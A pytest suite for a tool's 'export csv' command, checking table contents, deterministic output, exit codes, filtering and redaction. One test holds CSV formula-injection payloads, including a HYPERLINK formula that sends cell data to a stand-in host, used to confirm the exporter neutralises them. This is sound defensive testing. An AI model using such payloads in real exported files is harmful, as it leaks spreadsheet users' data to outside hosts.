"""``rashomon export csv``: the tables of the brief that the same options give."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "workspace"))
from constructed_reports import POOL, jsonl

from rashomon.brief import restored

Run = Callable[..., Any]


def table(name: str, out: str = "out") -> list[dict[str, str]]:
    text = Path(out, f"{name}.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def files(out: str) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in Path(out).iterdir()}


def test_the_tables_hold_what_the_brief_holds(run: Run, good: Path) -> None:
    assert run("brief", good, "--out", "brief").code == 0
    whole = json.loads(Path("brief/brief.json").read_bytes())
    ended = run("export", "csv", good)
    assert ended.code == 0
    assert {Path(line).name for line in ended.out.splitlines()} == set(files("out"))
    for name, key in (("reports", "report"), ("statements", "statement"), ("incidents", "incident")):
        assert [row[key] for row in table(name)] == [one["id"] for one in whole[name]]
    assert [restored(r["citation"]) for r in table("statements")] == [s["citation"] for s in whole["statements"]]
    assert [restored(r["content"]) for r in table("statements")] == [s["content"]["text"] for s in whole["statements"]]
    assert [r["origin"] for r in table("reports")] == [r["origin"] for r in whole["reports"]]
    assert len(table("claims")) == sum(len(i["claims"]) for i in whole["incidents"])
    assert len(table("contradictions")) == sum(len(i["contradictions"]) for i in whole["incidents"])


def test_same_reports_same_bytes_in_any_order(run: Run, tmp_path: Path) -> None:
    names = ("wire", "claim", "analyst", "kabul")
    paths = [jsonl(tmp_path / f"{name}.jsonl", POOL[name]) for name in names]
    assert run("export", "csv", *paths, "--out", "forth").code == 0
    assert run("export", "csv", *paths[::-1], "--out", "back").code == 0
    assert run("export", "csv", *paths, "--out", "forth").code == 0
    assert files("forth") == files("back")


def test_without_a_source_it_is_what_the_workspace_holds(run: Run, good: Path) -> None:
    run("brief", good, "--workspace", "kept")
    claim = json.loads(Path("out/brief.json").read_bytes())["statements"][0]["id"]
    run("correct", claim, "--reason", "constructed", "--by", "Reviewer", "--workspace", "kept")
    assert run("export", "csv", "--workspace", "kept", "--out", "tables").code == 0
    assert {r["statement"]: r["reviewed_by"] for r in table("statements", "tables")}[claim] == "Reviewer"


@pytest.mark.parametrize("args", [(), ("--workspace", "missing"), ("--as-of", "soon"), ("--about", "nobody told this")])
def test_wrong_usage_is_2_and_writes_nothing(run: Run, good: Path, args: tuple[str, ...]) -> None:
    given = (good, *args) if args and args[0] != "--workspace" else args
    assert run("export", "csv", *given).code == 2
    assert not Path("out").exists()
    assert not Path("missing").exists()


def test_an_empty_workspace_is_3(run: Run, good: Path) -> None:
    assert run("brief", "missing.txt", "--workspace", "kept").code == 3
    assert run("export", "csv", "--workspace", "kept").code == 3


def test_about_as_of_and_share(run: Run, tmp_path: Path) -> None:
    source = jsonl(tmp_path / "r.jsonl", *(POOL[n] for n in ("wire", "claim", "kabul")))
    run("export", "csv", source, "--workspace", "kept", "--about", "Kabul")
    assert {r["report"] for r in table("reports")} == {"kabul"}
    run("export", "csv", "--workspace", "kept", "--as-of", "2020-03-03")
    assert {r["report"] for r in table("reports")} == {"wire"}
    run("export", "csv", "--workspace", "kept", "--out", "own")
    run("export", "csv", "--workspace", "kept", "--share", "--out", "shared")
    assert "Abu Example" in Path("own/statements.csv").read_text("utf-8")
    assert not [n for n, data in files("shared").items() if b"Abu Example" in data]


def test_what_a_hostile_report_says_starts_no_formula(run: Run, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://example.org/?"&A1)'
    one = {**POOL["wire"], "title": evil, "publisher": "+1;=1+1", "url": "http://example.org/=1", "text": f"{evil} said on Tuesday that “@SUM(1)” bombed the market in Kabul.\n\n{POOL['wire']['text']}"}  # fmt: skip
    assert run("export", "csv", jsonl(tmp_path / "r.jsonl", one)).code == 0
    (report,) = table("reports")
    assert (report["title"], restored(report["title"])) == (f"'{evil}", evil)
    assert report["publisher"] == "'+1;'=1+1"
    for name, data in files("out").items():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) if name.endswith(".csv") else ():
            assert not [cell for cell in row if re.match(r"[=+@\t\r]|-(?!\d)", cell)]


def test_lone_surrogates_and_control_characters_are_written(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    one = {**POOL["wire"], "title": "half \ud800 and \u0000 and \u0007", "publisher": "a\rb\r\nc"}
    path.write_text(json.dumps(one) + "\n", "utf-8")
    assert run("export", "csv", path).code == 0
    (report,) = table("reports")
    assert report["report"] == "wire"
    whole = (run("brief", path), json.loads(Path("out/brief.json").read_bytes()))[1]["reports"][0]
    assert report["title"].replace("\\ud800", "\ud800") == whole["title"]
    assert report["publisher"] == whole["publisher"]
